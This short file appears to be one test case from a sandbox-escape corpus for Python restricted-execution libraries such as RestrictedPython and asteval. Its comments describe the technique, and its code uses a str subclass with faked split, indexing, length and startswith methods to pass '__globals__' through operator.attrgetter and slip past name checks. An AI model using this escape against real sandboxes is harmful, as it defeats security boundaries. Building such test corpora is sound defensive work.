# technique: operator.attrgetter(S('__globals__')) with S a str subclass whose split() hides the real name from a Python-level name check; attrgetter (C) reads the real characters
# source: RestrictedPython / asteval advisory class: str subclasses defeating Python-level name checks

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import operator, json


class S(str):
    def split(self, *a, **k):
        return ['name']

    def __getitem__(self, i):
        return 'n'

    def __len__(self):
        return 0

    def startswith(self, *a):
        return False

attempt('attrgetter(S(__globals__))', lambda: operator.attrgetter(S(dn('globals')))(json.dumps))
